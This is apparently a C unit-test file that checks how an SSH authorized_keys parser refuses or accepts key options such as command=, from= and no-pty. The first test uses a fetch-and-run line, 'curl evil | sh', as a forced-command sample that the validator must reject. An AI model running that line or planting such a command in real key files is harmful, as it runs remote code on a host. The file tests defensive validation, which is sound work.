/* test_validate_ssh_options.c: authorized_keys options before the key in
 * agora_parse_sshkey (validate.h): refused by default; when the policy
 * allows them, every sshd option is accepted and kept as written, and a
 * malformed or unknown one (unclosed quote, control character or invalid
 * UTF-8 in a value, missing or unexpected value, empty option, repeated
 * command) is refused.
 *
 * The keys (made by ssh-keygen, OpenSSH 9.2) and the line and blob builders
 * are sshkey_fixture.h; each refusal checks the return
 * code and the part of the reason that names the offending input. */
#include "sshkey_fixture.h"

/* A real key line with `options` and a blank before it. */
static char *with_options(const char *options)
{
    size_t n = strlen(options) + 1 + strlen(KEY_ED25519) + 1;
    char *s = malloc(n);
    assert_non_null(s);
    memcpy(s, options, strlen(options));
    s[strlen(options)] = ' ';
    memcpy(s + strlen(options) + 1, KEY_ED25519, strlen(KEY_ED25519) + 1);
    return s;
}

/* ---- options --------------------------------------------------------------------- */

static void test_refuses_command_option_by_default(void **state)
{
    char *line = with_options("command=\"/bin/sh -c 'curl evil | sh'\"");
    (void)state;
    refused(line, "key options ('command=");
    refused(line, "are not allowed");
    free(line);
}

static void test_refuses_flag_option_by_default(void **state)
{
    char *line = with_options("no-pty");
    (void)state;
    refused(line, "key options ('no-pty') are not allowed");
    free(line);
}

static void test_refuses_unclosed_option_quote_by_default(void **state)
{
    char *line = with_options("command=\"oops");
    (void)state;
    refused(line, "are not allowed");
    free(line);
}

static void test_accepts_command_option_when_allowed(void **state)
{
    struct agora_sshkey k;
    const char *opt = "command=\"echo \\\"hi there\\\"\",no-pty";
    char *line = with_options(opt);
    (void)state;
    accepted(line, &ALLOW_OPTIONS, &k);
    assert_string_equal(k.options, opt);
    assert_string_equal(k.type, "ssh-ed25519");
    assert_string_equal(k.comment, "alice@node-1");
    agora_sshkey_clear(&k);
    free(line);
}

static void test_accepts_every_sshd_option_when_allowed(void **state)
{
    static const char *const opts[] = {
        "restrict,pty", "no-agent-forwarding,agent-forwarding", "cert-authority",
        "from=\"10.0.0.0/8,!10.0.0.1\"", "environment=\"LANG=C\"",
        "expiry-time=\"20300101\"", "permitopen=\"localhost:80\"",
        "permitlisten=\"8080\"", "principals=\"alice,bob\"", "tunnel=\"0\"",
        "no-port-forwarding,no-X11-forwarding,no-user-rc", "No-Pty,COMMAND=\"true\"",
        "no-touch-required,verify-required", "permitopen=\"a:1\",permitopen=\"b:2\"",
        "command=\"caf\xc3\xa9\"",
    };
    (void)state;
    for (size_t i = 0; i < sizeof(opts) / sizeof(opts[0]); i++) {
        struct agora_sshkey k;
        char *line = with_options(opts[i]);
        accepted(line, &ALLOW_OPTIONS, &k);
        assert_string_equal(k.options, opts[i]);
        agora_sshkey_clear(&k);
        free(line);
    }
}

static void test_refuses_unclosed_option_quote_when_allowed(void **state)
{
    char *line = with_options("command=\"echo hi");
    (void)state;
    refused_allowing_options(line, "unclosed '\"'");
    free(line);
}

static void test_refuses_escaped_quote_that_leaves_value_open(void **state)
{
    char *line = with_options("command=\"echo \\\"");
    (void)state;
    refused_allowing_options(line, "unclosed '\"'");
    free(line);
}

static void test_refuses_control_char_in_option_value(void **state)
{
    char *tab = with_options("command=\"echo\thi\"");
    char *esc = with_options("command=\"echo \x1b[2Jhi\"");
    (void)state;
    refused_allowing_options(tab, "value of option 'command' has a control character (U+0009)");
    refused_allowing_options(esc, "value of option 'command' has a control character (U+001B)");
    free(tab);
    free(esc);
}

static void test_refuses_invalid_utf8_in_option_value(void **state)
{
    char *line = with_options("command=\"caf\xe9\"");
    (void)state;
    refused_allowing_options(line, "value of option 'command' is not valid UTF-8");
    free(line);
}

static void test_refuses_unknown_option(void **state)
{
    char *line = with_options("no-pty,permit-everything");
    (void)state;
    refused_allowing_options(line, "unknown key option 'permit-everything'");
    free(line);
}

static void test_refuses_value_on_flag_option(void **state)
{
    char *line = with_options("no-pty=\"yes\"");
    (void)state;
    refused_allowing_options(line, "option 'pty' takes no value");
    free(line);
}

static void test_refuses_option_without_value(void **state)
{
    char *line = with_options("command,no-pty");
    (void)state;
    refused_allowing_options(line, "option 'command' needs a value");
    free(line);
}

static void test_refuses_unquoted_option_value(void **state)
{
    char *line = with_options("command=true");
    (void)state;
    refused_allowing_options(line, "option 'command' needs a value");
    free(line);
}

static void test_refuses_empty_option(void **state)
{
    char *twice = with_options("no-pty,,restrict");
    char *trailing = with_options("no-pty,");
    (void)state;
    refused_allowing_options(twice, "expected an option name at offset 7");
    refused_allowing_options(trailing, "options field ends with ','");
    free(twice);
    free(trailing);
}

static void test_refuses_text_after_quoted_value(void **state)
{
    char *line = with_options("command=\"true\"x");
    (void)state;
    refused_allowing_options(line, "unexpected 'x' at offset 14");
    free(line);
}

static void test_refuses_command_option_given_twice(void **state)
{
    char *line = with_options("command=\"true\",command=\"false\"");
    (void)state;
    refused_allowing_options(line, "option 'command' is given twice");
    free(line);
}

static void test_refuses_options_without_key_type(void **state)
{
    (void)state;
    refused_allowing_options("no-pty", "no key type after the options");
    refused_allowing_options("no-pty ssh-dss AAAA", "unsupported key type 'ssh-dss'");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_refuses_command_option_by_default),
        cmocka_unit_test(test_refuses_flag_option_by_default),
        cmocka_unit_test(test_refuses_unclosed_option_quote_by_default),
        cmocka_unit_test(test_accepts_command_option_when_allowed),
        cmocka_unit_test(test_accepts_every_sshd_option_when_allowed),
        cmocka_unit_test(test_refuses_unclosed_option_quote_when_allowed),
        cmocka_unit_test(test_refuses_escaped_quote_that_leaves_value_open),
        cmocka_unit_test(test_refuses_control_char_in_option_value),
        cmocka_unit_test(test_refuses_invalid_utf8_in_option_value),
        cmocka_unit_test(test_refuses_unknown_option),
        cmocka_unit_test(test_refuses_value_on_flag_option),
        cmocka_unit_test(test_refuses_option_without_value),
        cmocka_unit_test(test_refuses_unquoted_option_value),
        cmocka_unit_test(test_refuses_empty_option),
        cmocka_unit_test(test_refuses_text_after_quoted_value),
        cmocka_unit_test(test_refuses_command_option_given_twice),
        cmocka_unit_test(test_refuses_options_without_key_type),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
